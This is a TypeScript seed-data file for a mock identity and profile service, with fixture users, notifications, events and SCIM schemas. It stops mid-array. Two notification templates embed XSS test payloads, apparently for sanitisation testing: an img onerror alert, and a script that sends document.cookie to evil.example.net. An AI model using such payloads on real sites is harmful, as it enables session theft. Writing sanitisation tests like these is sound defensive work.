/**
 * Seed data for the mock realm, in each dialect's wire format (what the server would send).
 *
 * Deterministic: no randomness; every date that must look "recent" (notifications, events,
 * tokens) is derived from one `now` given to {@link createSeed}; historical dates (account
 * creation in the rest/scim dialects) are fixed. Browser-safe: no Node imports, images are inline
 * `data:` SVGs so nothing needs the network.
 */

// ---------------------------------------------------------------------------------------------
// Types: modyo
// ---------------------------------------------------------------------------------------------

import type { ModyoCustomFieldConfig, ModyoEvent, ModyoNotification, ModyoProfileConfiguration, ModyoSite, ModyoSubscription, ModyoUser } from '../src/api/modyo.wire.js';
export type * from '../src/api/modyo.wire.js';

export interface ModyoState {
  user: ModyoUser;
  /** true after `DELETE /me`: every modyo call then answers 401 (session gone). */
  deleted: boolean;
  profileConfiguration: ModyoProfileConfiguration;
  /** Any order; the server sorts newest first (`sent_at` desc, then `id` desc). */
  notifications: ModyoNotification[];
  sites: ModyoSite[];
  subscriptions: ModyoSubscription[];
  /** Any order; the server sorts newest first. */
  events: ModyoEvent[];
  zendeskSsoUrl: string;
}

// ---------------------------------------------------------------------------------------------
// Types: rest (Bird "Current user")
// ---------------------------------------------------------------------------------------------

import type { RestUser } from '../src/api/rest.wire.js';
export type * from '../src/api/rest.wire.js';

export interface RestState {
  user: RestUser;
}

// ---------------------------------------------------------------------------------------------
// Types: scim
// ---------------------------------------------------------------------------------------------

import { SCIM_CORE_USER, SCIM_ENTERPRISE_USER, SCIM_SCHEMA, SCIM_WSO2_USER, type ScimAttribute, type ScimSchema, type ScimUser } from '../src/api/scim.wire.js';
export * from '../src/api/scim.wire.js';

export interface ScimState {
  user: ScimUser;
  /** The other users of the organisation, for administrator mode (`/Users/{id}`). */
  others: ScimUser[];
  /** `GET /Schemas` answers these; `PATCH /Me` validates against them (mutability, type, regEx, …). */
  schemas: ScimSchema[];
  /** `DELETE /Me` answers 501 "Self-deletion is not supported" unless this is true (then 204). */
  allowDelete: boolean;
  /** true after a successful `DELETE /Me`: every scim call then answers 401. */
  deleted: boolean;
  /** The current password (write-only: never returned). */
  password: string;
}

export interface SeedData {
  /** The "now" every relative date was computed from (ISO string). */
  now: string;
  modyo: ModyoState;
  rest: RestState;
  scim: ScimState;
}

export interface SeedOptions {
  /** How many modyo notifications to generate (default 30). */
  notifications?: number;
  /** How many modyo events to generate (default 45). */
  events?: number;
  /** Reference time for relative dates (default: `Date.now()`). */
  now?: Date | number | string;
}

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** An inline SVG as a `data:` URL (no network, same-origin safe). */
export function svgDataUrl(svg: string): string {
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

function initialsAvatar(initials: string, bg: string, fg = '#ffffff', size = 256): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 100 100">` +
      `<rect width="100" height="100" rx="50" fill="${bg}"/>` +
      `<text x="50" y="50" dy=".35em" text-anchor="middle" font-family="Helvetica, Arial, sans-serif" font-size="40" font-weight="600" fill="${fg}">${initials}</text>` +
      `</svg>`,
  );
}

function logo(letter: string, bg: string, shape: 'square' | 'circle' | 'hex'): string {
  const body =
    shape === 'circle'
      ? `<circle cx="32" cy="32" r="30" fill="${bg}"/>`
      : shape === 'hex'
        ? `<polygon points="32,2 58,17 58,47 32,62 6,47 6,17" fill="${bg}"/>`
        : `<rect x="2" y="2" width="60" height="60" rx="14" fill="${bg}"/>`;
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">${body}` +
      `<text x="32" y="32" dy=".35em" text-anchor="middle" font-family="Helvetica, Arial, sans-serif" font-size="30" font-weight="700" fill="#fff">${letter}</text></svg>`,
  );
}

const chartImage = svgDataUrl(
  '<svg xmlns="http://www.w3.org/2000/svg" width="320" height="120" viewBox="0 0 320 120">' +
    '<rect width="320" height="120" fill="#f4f6fb"/>' +
    '<rect x="30" y="70" width="40" height="40" fill="#7aa2f7"/><rect x="90" y="50" width="40" height="60" fill="#7aa2f7"/>' +
    '<rect x="150" y="35" width="40" height="75" fill="#7aa2f7"/><rect x="210" y="20" width="40" height="90" fill="#3d59a1"/>' +
    '<text x="160" y="16" text-anchor="middle" font-family="Helvetica, Arial, sans-serif" font-size="12" fill="#333">Savings, last 4 months</text></svg>',
);

const iso = (ms: number) => new Date(ms).toISOString();

/** Small deterministic integer hash (for jitter), never random. */
function jitter(i: number, mod: number): number {
  let h = (i + 1) * 2654435761;
  h = (h ^ (h >>> 13)) >>> 0;
  return mod > 0 ? h % mod : 0;
}

function toBase64Url(s: string): string {
  return btoa(s).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

// ---------------------------------------------------------------------------------------------
// modyo seed
// ---------------------------------------------------------------------------------------------

/** Custom-field definitions. The array order is deliberately NOT the `position` order. */
function modyoCustomFields(): ModyoCustomFieldConfig[] {
  return [
    {
      key: 'about_me',
      name: 'About me',
      type: 'paragraph',
      required: false,
      editable: true,
      hint: 'A few words about yourself (up to 2000 characters).',
      default_value: '',
      options: [],
      position: 7,
    },
    {
      key: 'mobile_phone',
      name: 'Mobile phone',
      type: 'text',
      required: true,
      editable: true,
      hint: 'Include the country code, e.g. +1 415 555 0100.',
      default_value: '',
      options: [],
      position: 1,
    },
    {
      key: 'interests',
      name: 'Topics you are interested in',
      type: 'checkbox',
      required: false,
      editable: true,
      hint: 'We use these to choose what to tell you about.',
      default_value: [],
      options: [
        { value: 'savings', label: 'Savings' },
        { value: 'investments', label: 'Investments' },
        { value: 'insurance', label: 'Insurance' },
        { value: 'mortgages', label: 'Mortgages' },
        { value: 'travel', label: 'Travel perks' },
      ],
      position: 5,
    },
    {
      key: 'household_size',
      name: 'People in your household',
      type: 'number',
      required: false,
      editable: true,
      hint: 'Helps us recommend the right plan.',
      default_value: 1,
      options: [],
      position: 4,
    },
    {
      key: 'customer_since',
      name: 'Customer since',
      type: 'date',
      required: false,
      editable: false,
      hint: 'Set by our team when your account was opened.',
      default_value: null,
      options: [],
      position: 8,
    },
    {
      key: 'preferred_branch',
      name: 'Preferred branch',
      type: 'dropdown',
      required: false,
      editable: true,
      hint: 'The branch you usually visit.',
      default_value: 'downtown',
      options: [
        { value: 'downtown', label: 'Downtown' },
        { value: 'riverside', label: 'Riverside' },
        { value: 'airport', label: 'Airport Plaza' },
        { value: 'north_hills', label: 'North Hills' },
      ],
      position: 2,
    },
    {
      key: 'contact_channel',
      name: 'Preferred contact channel',
      type: 'choice',
      required: false,
      editable: true,
      hint: 'How we should reach you about your account.',
      default_value: 'email',
      options: [
        { value: 'email', label: 'Email' },
        { value: 'sms', label: 'Text message (SMS)' },
        { value: 'phone', label: 'Phone call' },
        { value: 'whatsapp', label: 'WhatsApp' },
      ],
      position: 3,
    },
    {
      key: 'partner_offers',
      name: 'Send me offers from partner brands',
      type: 'checkbox',
      required: false,
      editable: true,
      hint: 'You can change this at any time.',
      default_value: false,
      options: [],
      position: 6,
    },
  ];
}

interface NotificationTemplate {
  subject: string;
  body: string;
  url: string | null;
}

const NOTIFICATION_TEMPLATES: NotificationTemplate[] = [
  {
    subject: 'Welcome to your new profile area',
    body:
      '<p>Hi Clifton,</p><p>Your profile area has a <strong>new look</strong>. From here you can:</p>' +
      '<ul><li>read your notifications</li><li>update your personal details</li><li>choose which emails you get</li></ul>' +
      '<p>Questions? Visit our <a href="https://help.example.com/articles/profile">help centre</a>.</p>',
    url: 'https://www.example.com/profile',
  },
  {
    subject: 'Your monthly statement is ready',
    body:
      '<p>Your statement for last month is now available.</p>' +
      '<p><img src=x onerror="alert(\'xss\')">You can download it as a PDF from <a href="https://banking.example.com/statements">Statements</a>.</p>',
    url: 'https://banking.example.com/statements',
  },
  {
    subject: 'Important security notice',
    body:
      '<p><strong>We will never ask for your password</strong> by email, phone or text message.</p>' +
      '<script>document.body.innerHTML = "hacked"; fetch("https://evil.example.net/steal?c=" + document.cookie);</script>' +
      '<p onmouseover="alert(1)">If you receive a suspicious message, <a href="javascript:alert(document.domain)">report it here</a> ' +
      'or forward it to <a href="mailto:security@example.com">security@example.com</a>.</p>',
    url: null,
  },
  {
    subject: 'Your savings report',
    body:
      '<p>Great news: you saved <strong>12% more</strong> than the previous quarter.</p>' +
      `<p><img src="${chartImage}" alt="Bar chart of savings over the last four months" width="320" height="120"></p>` +
      '<p>See the <a href="https://banking.example.com/insights">full report</a> for details.</p>',
    url: 'https://banking.example.com/insights',
  },
  {
    subject: 'New sign-in from Chrome on Windows',
    body:
      '<p>We noticed a new sign-in to your account:</p><ul><li><strong>Device:</strong> Chrome on Windows</li>' +
      '<li><strong>Location:</strong> Austin, Texas, United States</li></ul>' +
      '<p>If this was you, there is nothing to do. If not, <a href="https://www.example.com/security">secure your account</a>.</p>',
    url: 'https://www.example.com/security',
  },
  {
    subject: 'Reward points earned',
    body: '<p>You earned <strong>250 points</strong> on your last purchase. Your balance is now <em>3,840 points</em>.</p>',
    url: 'https://rewards.example.com/points',
  },
  {
    subject: 'Scheduled maintenance this weekend',
    body:
      '<p>On <strong>Saturday from 01:00 to 03:00 (UTC)</strong> some services will be unavailable:</p>' +
      '<ol><li>Online transfers</li><li>Card activation</li></ol><p>We apologise for the inconvenience.</p>',
    url: null,
  },
  {
    subject: 'Your password was changed',
    body:
      '<p>The password for your account was changed.</p>' +
      '<p>If you did not do this, <a href="https://www.example.com/password/reset">reset your password</a> right away and contact us.</p>',
    url: null,
  },
  {
    subject: 'Invitation: Personal finance webinar',
    body:
      '<p>Join our free webinar <em>“Planning for the year ahead”</em> next Thursday at 18:00.</p>' +
      '<p><a href="https://events.example.com/webinars/planning">Save your seat</a> — places are limited.</p>',
    url: 'https://events.example.com/webinars/planning',
  },
  {
    subject: 'We updated our privacy policy',
    body:
      '<p>We have updated our <a href="https://www.example.com/legal/privacy">privacy policy</a> to explain more clearly how we use your data.</p>' +
      '<p>The changes take effect in <strong>30 days</strong>. No action is needed.</p>',
    url: 'https://www.example.com/legal/privacy',
  },
  {
    subject: 'Your card is on its way',
    body: '<p>Your new card was shipped today and should arrive within <strong>5 business days</strong>.</p><p>Activate it from the app when it arrives.</p>',
    url: null,
  },
  {
    subject: 'Complete your profile',
    body:
      '<p>Your profile is <strong>80%</strong> complete. Add the following to unlock personalised offers:</p>' +
      '<ul><li>Preferred branch</li><li>Topics you are interested in</li></ul>',
    url: 'https://www.example.com/profile#edit',
  },
  {
    subject: 'Payment received — thank you',
    body: '<p>We received your payment of <strong>$1,250.00</strong>. It may take up to one business day to show in your balance.</p>',
    url: 'https://banking.example.com/payments',
  },
  {
    subject: 'Travel notice registered',
    body:
      '<p>Have a great trip! We registered your travel notice for <em>Portugal and Spain</em>.</p>' +
      '<p>Your cards will keep working abroad; see <a href="https://help.example.com/articles/travel">travel tips</a>.</p>',
    url: null,
  },
];

/** Indices (0 = newest) that are unread in the first 30; beyond 30, every index ≡ 3 (mod 10). */
const UNREAD_INDICES = new Set([0, 1, 3, 5, 6, 9, 13, 17, 22, 27]);

/** Notification at index i (0 = newest) of n; its id is `n - i` (so the newest has id n). */
export function modyoNotification(i: number, n: number, now: number): ModyoNotification {
  const t = NOTIFICATION_TEMPLATES[i % NOTIFICATION_TEMPLATES.length]!;
  // Spread over ~6 weeks for the default count, denser for big counts; strictly decreasing.
  const step = Math.max(MINUTE, Math.floor((42 * DAY) / Math.max(n, 30)));
  const sent = now - 35 * MINUTE - i * step - jitter(i, Math.floor(step / 3));
  const cycle = Math.floor(i / NOTIFICATION_TEMPLATES.length);
  return {
    id: n - i,
    subject: cycle === 0 ? t.subject : `${t.subject} (${cycle + 1})`,
    body: t.body,
    sent_at: iso(sent),
    opened: i < 30 ? !UNREAD_INDICES.has(i) : i % 10 !== 3,
    url: t.url,
  };
}

const EVENT_TEMPLATES: Omit<ModyoEvent, 'created_at'>[] = [
  { title: 'Signed in', description: 'Signed in from Chrome 126 on macOS — Chicago, United States.' },
  { title: 'Profile updated', description: 'Changed first name, preferred branch.' },
  { title: 'Signed in', description: 'Signed in from Safari on iPhone — Chicago, United States.' },
  { title: 'Notification preferences changed', description: 'Subscribed to “Security tips”.' },
  { title: 'Signed out', description: 'Signed out from all other devices.' },
  { title: 'Password changed', description: 'Your password was changed from Chrome 126 on macOS.' },
  { title: 'Signed in', description: 'Signed in with Google from Firefox on Windows — Denver, United States.' },
  { title: 'Failed sign-in attempt', description: 'Wrong password entered from an unknown device — Toronto, Canada.' },
  { title: 'Email verified', description: 'test.user@modyo.com was verified.' },
  { title: 'Two-step verification enabled', description: 'Authenticator app added.' },
  { title: 'Profile updated', description: 'Changed mobile phone.' },
  { title: 'Signed in', description: 'Signed in from the mobile app on Android — Chicago, United States.' },
  { title: 'Session expired', description: 'Your session on Edge for Windows expired after 30 days.' },
  { title: 'Avatar changed', description: 'Uploaded a new profile picture.' },
  { title: 'Recovery email added', description: 'clifton.feil@example.net can now be used to recover your account.' },
];

/** Event at index i (0 = newest). */
export function modyoEvent(i: number, now: number): ModyoEvent {
  const t = EVENT_TEMPLATES[i % EVENT_TEMPLATES.length]!;
  const created = now - 12 * MINUTE - i * 19 * HOUR - jitter(i + 101, 5 * HOUR);
  return { ...t, created_at: iso(created) };
}

function modyoSeed(now: number, notifications: number, events: number): ModyoState {
  const avatar = initialsAvatar('CF', '#3d59a1');
  const header = toBase64Url(JSON.stringify({ alg: 'HS256', typ: 'JWT' }));
  const payload = toBase64Url(
    JSON.stringify({ iat: Math.floor(now / 1000), jti: 'b7e2c1d0-4a5f-4c3e-9a8b-1f2e3d4c5b6a', name: 'Clifton Feil', email: 'test.user@modyo.com', external_id: '11111111-1' }),
  );
  return {
    user: {
      id: 2332,
      external_id: '11111111-1',
      username: 'test.user',
      email: 'test.user@modyo.com',
      name: 'Clifton Feil',
      first_name: 'Clifton',
      last_name: 'Feil',
      second_last_name: 'Smith',
      birth_date: '1990-04-12',
      sex: 0,
      avatar: { id: 100, file_name: 'user_avatar.svg', url_small: avatar, url_medium: avatar, url_original: avatar },
      custom_fields: [
        { key: 'mobile_phone', value: '+1 312 555 0148' },
        { key: 'about_me', value: 'Weekend cyclist and amateur baker. Saving for a trip to Japan.' },
        { key: 'household_size', value: 3 },
        { key: 'customer_since', value: '2014-09-01' },
        { key: 'preferred_branch', value: 'riverside' },
        { key: 'contact_channel', value: 'email' },
        { key: 'interests', value: ['savings', 'travel'] },
        { key: 'partner_offers', value: false },
      ],
      delegated_token: {
        uuid: 'af57d947-69dc-4ed7-b5af-418c957d827f',
        access_token: 'TOKEN-3f9c2a7e5b1d4c8e9a0b',
        access_token_expires_in: 300,
        access_token_expires_in_datetime: new Date(now + 300_000).toISOString().replace('Z', '+00:00'),
      },
    },
    deleted: false,
    profileConfiguration: {
      fields: [
        { key: 'first_name', editable: true, required: true },
        { key: 'last_name', editable: true, required: true },
        { key: 'second_last_name', editable: true, required: false },
        { key: 'email', editable: false, required: true },
        { key: 'birth_date', editable: true, required: false },
        { key: 'sex', editable: true, required: false },
      ],
      custom_fields: modyoCustomFields(),
      delete_account: true,
      subscriptions: true,
    },
    notifications: Array.from({ length: notifications }, (_, i) => modyoNotification(i, notifications, now)),
    sites: [
      {
        id: 1,
        name: 'Online Banking',
        url: 'https://banking.example.com/',
        logo_url: logo('B', '#1a7f64', 'square'),
        description: 'Accounts, cards, transfers and statements.',
      },
      {
        id: 2,
        name: 'Rewards Club',
        url: 'https://rewards.example.com/',
        logo_url: logo('R', '#b3541e', 'circle'),
        description: 'Earn and redeem points with our partners.',
      },
      {
        id: 3,
        name: 'Help Center',
        url: 'https://help.example.com/',
        logo_url: logo('?', '#5b3cc4', 'hex'),
        description: 'Guides, answers and support tickets.',
      },
    ],
    subscriptions: [
      { id: 1, name: 'Monthly newsletter', description: 'News, tips and product highlights, once a month.', subscribed: true },
      { id: 2, name: 'Product updates', description: 'New features and changes to the services you use.', subscribed: true },
      { id: 3, name: 'Offers and promotions', description: 'Discounts and special offers from us and our partners.', subscribed: false },
      { id: 4, name: 'Events and webinars', description: 'Invitations to workshops, webinars and local events.', subscribed: false },
      { id: 5, name: 'Security tips', description: 'How to keep your account and money safe.', subscribed: true },
    ],
    events: Array.from({ length: events }, (_, i) => modyoEvent(i, now)),
    zendeskSsoUrl: `https://help.example.com/access/jwt?jwt=${header}.${payload}.c2lnbmF0dXJlLW5vdC12YWxpZC1tb2Nr`,
  };
}

// ---------------------------------------------------------------------------------------------
// rest seed
// ---------------------------------------------------------------------------------------------

function restSeed(): RestState {
  const userId = '5f2b8c9e-7a41-4d3b-9e6f-2c8a1b0d4e73';
  return {
    user: {
      id: userId,
      status: 'active',
      name: 'Jordan Rivera',
      bio: 'Product designer in Lisbon. I like maps, typography and long walks.',
      createdAt: '2023-02-14T09:21:44.120Z',
      updatedAt: '2025-01-08T17:45:02.318Z',
      emails: [
        {
          id: '0c6b7a38-3f1e-4d0b-8f52-6a9e1c2d3b41',
          userId,
          email: 'jordan.rivera@example.com',
          verified: true,
          passwordSet: true,
          tokenSet: false,
          createdAt: '2023-02-14T09:21:44.120Z',
          updatedAt: '2023-02-14T09:25:10.004Z',
        },
        {
          id: '9d2f4e61-8a7b-4c3d-b2e1-5f6a7b8c9d02',
          userId,
          email: 'jordan@rivera.dev',
          verified: false,
          passwordSet: false,
          tokenSet: true,
          createdAt: '2024-11-30T12:02:09.771Z',
          updatedAt: '2024-11-30T12:02:09.771Z',
        },
      ],
      defaultEmail: 'jordan.rivera@example.com',
      identities: [
        {
          id: '108472915530278331942',
          name: 'Jordan Rivera',
          email: 'jordan.rivera@gmail.com',
          avatarUrl: initialsAvatar('JR', '#db4437'),
          provider: 'google',
          createdAt: '2023-02-14T09:21:44.120Z',
          updatedAt: '2024-12-02T08:11:37.540Z',
        },
        {
          id: '58213907',
          name: 'jrivera',
          email: 'jordan@rivera.dev',
          avatarUrl: initialsAvatar('jr', '#24292f'),
          provider: 'github',
          createdAt: '2023-06-19T15:40:00.000Z',
          updatedAt: '2024-10-21T19:03:12.900Z',
        },
      ],
      avatarUrl: initialsAvatar('JR', '#2f6f8f'),
      phoneNumber: '+14155550132',
      phoneNumbers: [
        {
          id: '3b8e5d1c-6f2a-4e9b-a7c3-d4e5f6a7b8c9',
          userId,
          phoneNumber: '+14155550132',
          verified: true,
          primary: true,
          createdAt: '2023-02-14T09:30:12.000Z',
          updatedAt: '2023-02-14T09:31:40.500Z',
        },
        {
          id: 'e1f2a3b4-c5d6-4e7f-8a9b-0c1d2e3f4a5b',
          userId,
          phoneNumber: '+442079460958',
          verified: false,
          primary: false,
          createdAt: '2024-09-03T07:15:55.250Z',
          updatedAt: '2024-09-03T07:15:55.250Z',
        },
      ],
      activeSessions: 3,
      locale: 'en-US',
      timezone: 'America/Los_Angeles',
      badges: ['messagebird:cx'],
    },
  };
}

// ---------------------------------------------------------------------------------------------
// scim seed
// ---------------------------------------------------------------------------------------------

const SCIM_BASE = 'https://api.asgardeo.io/t/acme/scim2';

type AttrInit = Partial<ScimAttribute> & Pick<ScimAttribute, 'name'>;

function attr(a: AttrInit): ScimAttribute {
  return {
    type: 'string',
    multiValued: false,
    description: '',
    required: false,
    caseExact: false,
    mutability: 'readWrite',
    returned: 'default',
    uniqueness: 'none',
    ...a,
  } as ScimAttribute;
}

const COUNTRIES = [
  'Argentina', 'Australia', 'Brazil', 'Canada', 'Chile', 'France', 'Germany', 'India', 'Ireland', 'Japan',
  'Mexico', 'Portugal', 'Spain', 'Sri Lanka', 'United Kingdom', 'United States',
];

/** E.164-ish phone numbers, spaces allowed between groups. */
export const SCIM_PHONE_REGEX = '^\\+?[0-9]{1,3}([ -]?[0-9]{2,4}){2,5}$';

function scimSchemas(): ScimSchema[] {
  const typeSub = (values: string[]) =>
    attr({ name: 'type', description: 'A label indicating the attribute\'s function.', canonicalValues: values });
  const primarySub = attr({ name: 'primary', type: 'boolean', description: 'Indicates the primary value.' });
  const core: ScimSchema = {
    schemas: [SCIM_SCHEMA],
    id: SCIM_CORE_USER,
    name: 'User',
    description: 'User Account',
    meta: { resourceType: 'Schema', location: `${SCIM_BASE}/Schemas/${SCIM_CORE_USER}` },
    attributes: [
      attr({ name: 'id', description: 'Unique identifier for the SCIM resource.', caseExact: true, mutability: 'readOnly', returned: 'always', uniqueness: 'server' }),
      attr({
        name: 'userName',
        description: 'Unique identifier for the User, used to sign in.',
        required: true,
        mutability: 'readOnly',
        returned: 'always',
        uniqueness: 'server',
        displayName: 'Username',
        displayOrder: 1,
      }),
      attr({
        name: 'name',
        type: 'complex',
        description: "The components of the user's name.",
        subAttributes: [
          attr({ name: 'formatted', description: 'The full name, formatted for display.', displayName: 'Full name' }),
          attr({ name: 'familyName', description: 'The family name (last name).', displayName: 'Last name', displayOrder: 3 }),
          attr({ name: 'givenName', description: 'The given name (first name).', required: true, displayName: 'First name', displayOrder: 2 }),
          attr({ name: 'middleName', description: 'The middle name(s).', displayName: 'Middle name' }),
          attr({ name: 'honorificPrefix', description: 'Honorific prefix, e.g. "Ms.".', displayName: 'Prefix' }),
          attr({ name: 'honorificSuffix', description: 'Honorific suffix, e.g. "III".', displayName: 'Suffix' }),
        ],
      }),
      attr({ name: 'displayName', description: 'The name of the User, suitable for display.', displayName: 'Display name', displayOrder: 4 }),
      attr({ name: 'nickName', description: 'The casual way to address the user.', displayName: 'Nickname', displayOrder: 5 }),
      attr({ name: 'profileUrl', type: 'reference', referenceTypes: ['external'], description: "A fully qualified URL pointing to the user's online profile.", displayName: 'Profile URL', displayOrder: 6 }),
      attr({
        name: 'emails',
        type: 'complex',
        multiValued: true,
        required: true,
        description: 'Email addresses for the user.',
        displayName: 'Email addresses',
        displayOrder: 7,
        subAttributes: [
          attr({ name: 'value', description: 'Email address.', regEx: '^[^\\s@]+@[^\\s@]+\\.[^\\s@]+$' }),
          attr({ name: 'display', description: 'A human-readable name.' }),
          typeSub(['work', 'home', 'other']),
          primarySub,
        ],
      }),
      attr({
        name: 'phoneNumbers',
        type: 'complex',
        multiValued: true,
        description: 'Phone numbers for the user.',
        displayName: 'Phone numbers',
        displayOrder: 8,
        subAttributes: [
          attr({ name: 'value', description: 'Phone number.', regEx: SCIM_PHONE_REGEX }),
          attr({ name: 'display', description: 'A human-readable name.' }),
          typeSub(['work', 'home', 'mobile', 'fax', 'pager', 'other']),
          primarySub,
        ],
      }),
      attr({
        name: 'preferredLanguage',
        description: "The user's preferred written or spoken language (RFC 7231 language tag).",
        canonicalValues: ['en', 'es', 'pt', 'fr', 'de'],
        displayName: 'Preferred language',
        displayOrder: 9,
      }),
      attr({ name: 'locale', description: "The user's default location for localizing items (BCP 47).", displayName: 'Locale', displayOrder: 10, regEx: '^[a-zA-Z]{2,3}(-[a-zA-Z0-9]{2,8})*$' }),
      attr({ name: 'timezone', description: "The user's time zone in IANA format, e.g. 'America/New_York'.", displayName: 'Time zone', displayOrder: 11 }),
      attr({ name: 'active', type: 'boolean', description: "The user's administrative status.", mutability: 'readOnly', displayName: 'Active' }),
      attr({ name: 'password', description: "The user's cleartext password (write only).", caseExact: true, mutability: 'writeOnly', returned: 'never', displayName: 'Password' }),
      attr({
        name: 'groups',
        type: 'complex',
        multiValued: true,
        description: 'Groups to which the user belongs.',
        mutability: 'readOnly',
        subAttributes: [
          attr({ name: 'value', description: 'Identifier of the group.', mutability: 'readOnly' }),
          attr({ name: '$ref', type: 'reference', referenceTypes: ['User', 'Group'], description: 'URI of the group.', mutability: 'readOnly' }),
          attr({ name: 'display', description: 'Display name of the group.', mutability: 'readOnly' }),
        ],
      }),
      attr({
        name: 'meta',
        type: 'complex',
        description: 'Resource metadata.',
        mutability: 'readOnly',
        subAttributes: [
          attr({ name: 'resourceType', mutability: 'readOnly', caseExact: true }),
          attr({ name: 'created', type: 'dateTime', mutability: 'readOnly' }),
          attr({ name: 'lastModified', type: 'dateTime', mutability: 'readOnly' }),
          attr({ name: 'location', type: 'reference', referenceTypes: ['uri'], mutability: 'readOnly' }),
          attr({ name: 'version', mutability: 'readOnly', caseExact: true }),
        ],
      }),
    ],
  };
  const enterprise: ScimSchema = {
    schemas: [SCIM_SCHEMA],
    id: SCIM_ENTERPRISE_USER,
    name: 'EnterpriseUser',
    description: 'Enterprise User',
    meta: { resourceType: 'Schema', location: `${SCIM_BASE}/Schemas/${SCIM_ENTERPRISE_USER}` },
    attributes: [
      // Read-only for the user, an administrator's to set (WSO2's attribute profiles).
      attr({ name: 'employeeNumber', description: 'Numeric or alphanumeric identifier assigned by the organization.', displayName: 'Employee number', displayOrder: 20, profiles: { endUser: { mutability: 'READ_ONLY' }, console: { mutability: 'READ_WRITE' } } }),
      attr({ name: 'costCenter', description: 'Identifies the name of a cost center.', displayName: 'Cost center', displayOrder: 23 }),
      attr({ name: 'organization', description: 'Identifies the name of an organization.', displayName: 'Organization', displayOrder: 21 }),
      attr({ name: 'division', description: 'Identifies the name of a division.', displayName: 'Division', displayOrder: 24 }),
      attr({ name: 'department', description: 'Identifies the name of a department.', displayName: 'Department', displayOrder: 22 }),
      attr({
        name: 'manager',
        type: 'complex',
        description: "The user's manager.",
        mutability: 'readOnly',
        displayName: 'Manager',
        subAttributes: [
          attr({ name: 'value', description: 'The id of the manager.', mutability: 'readOnly' }),
          attr({ name: '$ref', type: 'reference', referenceTypes: ['User'], description: 'The URI of the manager.', mutability: 'readOnly' }),
          attr({ name: 'displayName', description: 'The display name of the manager.', mutability: 'readOnly' }),
        ],
      }),
    ],
  };
  const wso2: ScimSchema = {
    schemas: [SCIM_SCHEMA],
    id: SCIM_WSO2_USER,
    name: 'User',
    description: 'Custom user attributes (WSO2 / Asgardeo)',
    meta: { resourceType: 'Schema', location: `${SCIM_BASE}/Schemas/${SCIM_WSO2_USER}` },
    attributes: [
      attr({ name: 'country', description: 'Country of residence.', canonicalValues: COUNTRIES, displayName: 'Country', displayOrder: 30 }),
      attr({ name: 'dateOfBirth', description: 'Date of birth (YYYY-MM-DD).', regEx: '^\\d{4}-\\d{2}-\\d{2}$', displayName: 'Birth date', displayOrder: 31 }),
      attr({ name: 'mobileNumbers', multiValued: true, description: 'Mobile numbers (E.164).', regEx: SCIM_PHONE_REGEX, displayName: 'Mobile numbers', displayOrder: 32 }),
      attr({ name: 'alternatePhones', multiValued: true, description: 'Other phone numbers to reach the user (E.164).', regEx: SCIM_PHONE_REGEX, displayName: 'Alternate phones', displayOrder: 32.5 }),
      attr({ name: 'verifiedMobileNumbers', multiValued: true, description: 'Mobile numbers verified by OTP.', mutability: 'readOnly', displayName: 'Verified mobile numbers' }),
      attr({ name: 'householdSize', type: 'integer', description: 'Number of people in the household.', displayName: 'Household size', displayOrder: 33 }),
      attr({ name: 'monthlyBudget', type: 'decimal', description: 'Planned monthly budget in USD.', displayName: 'Monthly budget (USD)', displayOrder: 34 }),
      attr({ name: 'marketingOptIn', type: 'boolean', description: 'Whether the user accepts marketing emails.', displayName: 'Marketing emails', displayOrder: 35 }),
      attr({ name: 'emailVerified', type: 'boolean', description: 'Whether the primary email is verified.', mutability: 'readOnly', displayName: 'Email verified' }),
      // The account's state: an administrator's to change (WSO2: READ_WRITE, READ_ONLY for the user).
      attr({ name: 'accountLocked', type: 'boolean', description: 'Whether the account is locked.', displayName: 'Account locked', profiles: { endUser: { mutability: 'READ_ONLY' } } }),
      attr({ name: 'accountDisabled', type: 'boolean', description: 'Whether the account is disabled.', displayName: 'Account disabled', profiles: { endUser: { mutability: 'READ_ONLY' } } }),
      attr({ name: 'lockedReason', description: 'Why the account is locked.', mutability: 'readOnly', displayName: 'Locked reason' }),
      attr({ name: 'forcePasswordReset', type: 'boolean', description: 'Ask the user to reset their password (an email is sent).', displayName: 'Force password reset', profiles: { endUser: { mutability: 'READ_ONLY' } } }),
      attr({ name: 'lastLogonTime', type: 'dateTime', description: 'Time of the last successful sign-in.', mutability: 'readOnly', displayName: 'Last sign-in' }),
      attr({ name: 'loyaltyPoints', type: 'integer', description: 'Reward points balance.', mutability: 'readOnly', displayName: 'Loyalty points' }),
    ],
  };
  return [core, enterprise, wso2];
}

/** The organisation's other users (administrator mode): one ordinary, one locked, one the server will not let an administrator edit. */
function scimOthers(): ScimUser[] {
  const user = (id: string, userName: string, givenName: string, familyName: string, wso2: Record<string, unknown> = {}): ScimUser => ({
    schemas: [SCIM_CORE_USER, SCIM_ENTERPRISE_USER, SCIM_WSO2_USER],
    id,
    userName: `DEFAULT/${userName}`,
    name: { givenName, familyName, formatted: `${givenName} ${familyName}` },
    displayName: `${givenName} ${familyName}`,
    emails: [{ value: userName, primary: true, type: 'work' }],
    meta: { resourceType: 'User', created: '2023-03-14T09:26:53.000Z', lastModified: '2025-01-08T16:40:12.000Z', location: `${SCIM_BASE}/Users/${id}` },
    [SCIM_ENTERPRISE_USER]: { employeeNumber: `E-${id.slice(0, 5)}`, department: 'Retail Banking', organization: 'Acme Corporation' },
    [SCIM_WSO2_USER]: { country: 'Chile', accountLocked: false, accountDisabled: false, ...wso2 },
    groups: [{ value: 'c3f1a2b4-0000-4000-8000-0000000000a1', display: 'Tellers', $ref: `${SCIM_BASE}/Groups/c3f1a2b4-0000-4000-8000-0000000000a1` }],
    roles: [{ value: 'r-7', display: 'everyone', $ref: `${SCIM_BASE}/v2/Roles/r-7`, audienceType: 'organization', audienceDisplay: 'Acme' }],
  });
  return [
    user(SCIM_USERS.jordan, 'jordan.lee@acme.example', 'Jordan', 'Lee'),
    user(SCIM_USERS.sam, 'sam.ortiz@acme.example', 'Sam', 'Ortiz', { accountLocked: true, lockedReason: 'MAX_ATTEMPTS_EXCEEDED' }),
